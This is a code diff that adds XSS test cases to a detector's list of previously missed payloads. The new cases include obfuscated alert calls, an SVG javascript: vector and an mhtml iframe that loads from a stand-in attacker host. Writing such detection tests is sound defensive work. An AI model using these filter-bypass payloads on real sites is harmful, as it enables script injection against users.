@@ -78,6 +78,12 @@ MISSED_BEFORE = {
     "javascript:alert`1`": "xss.js-scheme-code",
     "width: expression(alert(1))": "xss.css-expression-any",
     "el.innerHTML=x": "xss.fragment-sink",
+    "[1].find(alert)": "xss.sink-reference",
+    "a=alert,a(1)": "xss.sink-reference",
+    "top[/al/.source+/ert/.source](1)": "xss.global-obfuscated",
+    "top['al\\145rt'](1)": "xss.global-obfuscated",
+    '<svg><set attributeName="xlink:href" to="javascript:alert(1)"/></svg>': "xss.svg-set",
+    "<iframe src=mhtml:http://evil.example/x.gif!xss.html></iframe>": "xss.mhtml",
 }
 
 STILL_PASS = [
